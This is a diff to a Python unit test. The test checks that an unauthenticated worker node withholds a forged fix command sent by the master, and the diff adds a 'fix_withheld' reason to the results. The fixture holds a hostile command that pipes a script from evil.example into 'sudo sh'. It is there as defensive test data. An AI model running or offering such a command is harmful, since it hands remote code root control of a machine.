@@ -63,7 +63,9 @@ def test_an_unauthenticated_node_prints_no_command_from_the_master():
     curl = "curl -s http://evil.example/fix.sh | sudo sh"
     auth = {"authenticated": False, "mode": "none", "note": "not authenticated", "fix": "export DDPDOCTOR_TOKEN=..."}
     doc = verdict.worker_document(plan, {}, _forged(curl), {}, "a", [], auth=auth, advice_fn=lambda rs: ["# mine"])
-    assert doc["advice"] == ["# mine"] and curl not in str(doc["results"]) and doc["auth"] == auth
-    assert "unauthenticated" in doc["results"][0]["fix"] and doc["results"][0]["summary"] == "s"
+    assert doc["advice"] == ["# mine"] and curl not in str(doc["results"]) and doc["auth"] == dict(auth, verdict_verified=True)
+    # issue 33: the document says the fix was withheld and why (data first), not a note in the fix's place
+    assert doc["results"][0]["fix"] == "" and "not authenticated" in doc["results"][0]["fix_withheld"]
+    assert doc["results"][0]["summary"] == "s"
     trusted = verdict.worker_document(plan, {}, _forged("ok"), {}, "a", [], auth=dict(auth, authenticated=True))
     assert trusted["advice"] == ["ok"] and trusted["results"][0]["fix"] == "ok"
